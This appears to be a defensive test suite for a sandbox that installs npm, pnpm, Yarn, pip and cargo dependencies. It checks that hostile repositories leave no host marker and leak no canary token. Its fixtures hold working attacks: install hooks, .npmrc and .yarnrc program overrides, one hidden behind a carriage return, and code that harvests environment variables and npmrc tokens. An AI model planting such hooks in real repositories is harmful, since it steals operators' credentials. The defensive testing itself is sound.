// Repositories that try to run something, or to send something away, while their dependencies are installed.
// A marker on the host, or a secret of the operator inside the layer, is a failure.

import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { openLayer } from '../src/host/certify/open-layer.ts'
import { createMemoryTrees } from '../src/testing/memory-trees.ts'
import { isWhole } from './share.ts'

const canary = 'canary-0123456789abcdef'

interface Attack {
  readonly name: string
  /** What the repository holds. Code writes the marker wherever it runs. */
  files(marker: string): Readonly<Record<string, string>>
  /** What it comes to: why it is refused; absent: it is installed, in the sandbox. */
  readonly refused?: RegExp
  /** Its manager has to be fetched first. */
  readonly isFetched?: boolean
}

/** Leaves a mark, and what it finds of the operator's secrets. */
const code = (marker: string): string =>
  `const fs = require('fs'); try { fs.writeFileSync(${JSON.stringify(marker)}, 'x') } catch {}
const found = [JSON.stringify(process.env)]
for (const file of [process.env.HOME + '/.npmrc', '/root/.npmrc', '/etc/npmrc', '/usr/etc/npmrc']) {
  try { found.push(fs.readFileSync(file, 'utf8')) } catch {}
}
try { fs.mkdirSync('node_modules', { recursive: true }); fs.writeFileSync('node_modules/found.txt', found.join('\\n')) } catch {}
module.exports = { hooks: {} }
`
const shell = (marker: string): string => `#!/bin/sh\ntouch '${marker}'\nexec "$@"\n`

/** As npm's settings write it. */
const variable = (name: string): string => ['$', '{', name, '}'].join('')

const json = (value: object): string => JSON.stringify(value)
const lock = (packages: object, version = 3): string =>
  json({ name: 't', version: '1.0.0', lockfileVersion: version, packages: { '': {}, ...packages } })
const manifest = (more: object = {}): string => json({ name: 't', version: '1.0.0', ...more })

const npm: readonly Attack[] = [
  {
    name: 'scripts of the project',
    files: (marker) => ({
      'package.json': manifest({
        scripts: Object.fromEntries(
          ['preinstall', 'install', 'postinstall', 'prepare', 'prepublish'].map((name) => [
            name,
            `touch ${marker}`,
          ]),
        ),
      }),
      'package-lock.json': lock({}),
    }),
  },
  {
    name: 'settings that name programs',
    files: (marker) => ({
      'package.json': manifest({ scripts: { postinstall: 'true' } }),
      'package-lock.json': lock({}),
      '.npmrc': 'git=./evil.sh\nscript-shell=./evil.sh\nnode-options=--require ./evil.js\n',
      'evil.sh': shell(marker),
      'evil.js': code(marker),
    }),
  },
  {
    name: 'a setting behind a lone carriage return',
    files: (marker) => ({
      'package.json': manifest(),
      'package-lock.json': lock({}),
      '.npmrc': 'legacy-peer-deps=true\rgit=./evil.sh\rignore-scripts=false\n',
      'evil.sh': shell(marker),
    }),
  },
  {
    name: 'a registry that only the project names',
    files: () => ({
      'package.json': manifest(),
      'package-lock.json': lock({}),
      '.npmrc': `registry=http://127.0.0.1:1/\n//127.0.0.1:1/:_authToken=${variable('NPM_TOKEN')}\n`,
    }),
    refused: /names a registry that your own npm settings do not/,
  },
  {
    name: 'a registry for a scope that only the project names',
    files: () => ({
      'package.json': manifest(),
      'package-lock.json': lock({}),
      '.npmrc': '@acme:registry=http://127.0.0.1:1/\n',
    }),
    refused: /@acme:registry=http:\/\/127\.0\.0\.1:1\//,
  },
  {
    name: 'a package from git',
    files: () => ({
      'package.json': manifest({ dependencies: { a: 'git+https://example.com/a.git' } }),
      'package-lock.json': lock({
        'node_modules/a': { version: '1.0.0', resolved: 'git+ssh://git@example.com/a.git#abc' },
      }),
    }),
    refused: /from git or from addresses/,
  },
  {
    name: 'a package from any address',
    files: () => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      'package-lock.json': lock({
        'node_modules/a': { version: '1.0.0', resolved: 'http://127.0.0.1:1/a.tgz' },
      }),
    }),
    refused: /from git or from addresses/,
  },
  {
    name: 'a package from outside of the repository',
    files: () => ({
      'package.json': manifest({ dependencies: { a: 'file:../../etc' } }),
      'package-lock.json': lock({
        'node_modules/a': { version: '1.0.0', resolved: 'file:../../etc/passwd' },
      }),
    }),
    refused: /from outside of the repository/,
  },
  {
    name: 'a build of native code',
    files: (marker) => ({
      'package.json': manifest({ gypfile: true }),
      'package-lock.json': lock({}),
      'binding.gyp': json({
        targets: [{ target_name: 'x', actions: [{ action: ['touch', marker] }] }],
      }),
    }),
  },
  {
    name: 'a lockfile that is none',
    files: () => ({ 'package.json': manifest(), 'package-lock.json': '{ "lockfileVersion": 3' }),
    refused: /cannot be read/,
  },
]

const python: readonly Attack[] = [
  {
    name: 'a build backend of the project',
    files: (marker) => ({
      'requirements.txt': '.\n',
      'pyproject.toml':
        '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n[project]\nname = "t"\nversion = "1"\n',
      'evil.py': `open(${JSON.stringify(marker)}, 'w')\n`,
      'setup.py': `open(${JSON.stringify(marker)}, 'w')\n`,
    }),
    refused: /failed/,
  },
  {
    name: 'an index of the project',
    files: () => ({
      'requirements.txt':
        '--index-url http://127.0.0.1:1/simple\n--extra-index-url http://127.0.0.1:1/\n',
    }),
  },
  {
    name: 'requirements from outside',
    files: () => ({ 'requirements.txt': '-r ../../etc/passwd\n' }),
    refused: /from outside of the repository/,
  },
  {
    name: 'a package from a repository',
    files: () => ({ 'requirements.txt': 'hg+https://example.com/a\n' }),
    refused: /from git or from addresses/,
  },
]

const cargo: readonly Attack[] = [
  {
    name: 'settings that name programs of Rust',
    files: (marker) => ({
      'Cargo.toml':
        '[package]\nname = "t"\nversion = "1.0.0"\nedition = "2021"\nbuild = "build.rs"\n',
      'Cargo.lock': 'version = 3\n[[package]]\nname = "t"\nversion = "1.0.0"\n',
      'build.rs': `fn main() { std::fs::write(${JSON.stringify(marker)}, "x").unwrap(); }\n`,
      'src/lib.rs': '',
      '.cargo/config.toml':
        '[build]\nrustc = "./evil.sh"\nrustc-wrapper = "./evil.sh"\n[net]\ngit-fetch-with-cli = true\n',
      'evil.sh': shell(marker),
    }),
    // Where there is no cargo, nothing runs at all.
    refused: /^installed$|needs cargo/,
  },
  {
    name: 'a crate from git',
    files: () => ({
      'Cargo.toml': '[package]\nname = "t"\nversion = "1.0.0"\n',
      'Cargo.lock':
        'version = 3\n[[package]]\nname = "x"\nversion = "1.0.0"\nsource = "git+https://example.com/x.git#1"\n',
    }),
    refused: /from git or from addresses/,
  },
]

const fetched: readonly Attack[] = [
  {
    name: 'hooks of pnpm',
    isFetched: true,
    files: (marker) => ({
      'package.json': manifest({ packageManager: 'pnpm@9.15.0' }),
      'pnpm-lock.yaml': "lockfileVersion: '9.0'\nimporters:\n  .: {}\n",
      '.pnpmfile.cjs': code(marker),
    }),
    refused: /pnpmfileChecksum/,
  },
  {
    name: 'a program that Yarn 1 is told to be',
    isFetched: true,
    files: (marker) => ({
      'package.json': manifest({ packageManager: 'yarn@1.22.22' }),
      'yarn.lock': '# yarn lockfile v1\n\n',
      '.yarnrc': 'yarn-path "./evil.js"\n',
      'evil.js': code(marker),
    }),
  },
  {
    name: 'plugins of Yarn',
    isFetched: true,
    files: (marker) => ({
      'package.json': manifest({ packageManager: 'yarn@4.5.3' }),
      'yarn.lock':
        '# This file is generated by running "yarn install" inside your project.\n# Manual changes might be lost - proceed with caution!\n\n__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"t@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "t@workspace:."\n  languageName: unknown\n  linkType: soft\n',
      '.yarnrc.yml':
        'plugins:\n  - path: .yarn/plugins/evil.cjs\n    spec: evil\nyarnPath: .yarn/releases/evil.cjs\n',
      '.yarn/plugins/evil.cjs': `module.exports = { name: 'evil', factory: () => { ${code(marker)} return {} } }`,
      '.yarn/releases/evil.cjs': code(marker),
    }),
  },
]

let base = ''
const before = { HOME: process.env['HOME'], NPM_TOKEN: process.env['NPM_TOKEN'] }

beforeEach(() => {
  base = mkdtempSync(join(tmpdir(), 'loopwright-installs-'))
  mkdirSync(join(base, 'home'))
  mkdirSync(join(base, 'state'))
  writeFileSync(join(base, 'home', '.npmrc'), `//registry.example/:_authToken=${canary}\n`)
  process.env['NPM_TOKEN'] = canary
})

afterEach(() => {
  process.env['NPM_TOKEN'] = before.NPM_TOKEN
  if (before.NPM_TOKEN === undefined) delete process.env['NPM_TOKEN']
  execFileSync('chmod', ['-R', 'u+w', base])
  rmSync(base, { recursive: true, force: true })
})

const attacks = [...npm, ...python, ...cargo, ...(isWhole ? fetched : [])]

describe('while dependencies are installed', () => {
  test.each(attacks.map((attack) => [attack.name, attack] as const))(
    '%s does nothing to the host',
    async (_name, { files, refused }) => {
      const marker = join(base, 'marker')
      const trees = createMemoryTrees()
      const opening = openLayer({
        reader: trees,
        lockfileOf: trees.put(files(marker)),
        mode: 'install',
        record: join(base, 'state'),
        checkout: undefined,
        signal: new AbortController().signal,
      })
      const message = await opening.then(
        () => 'installed',
        (error: Error) => error.message,
      )
      expect(message).toMatch(refused ?? /^installed$/)
      expect(existsSync(marker)).toBe(false)
      const found = execFileSync('sh', ['-c', `grep -rl ${canary} state || true`], { cwd: base })
      expect(found.toString()).toBe('')
    },
    120_000,
  )
})
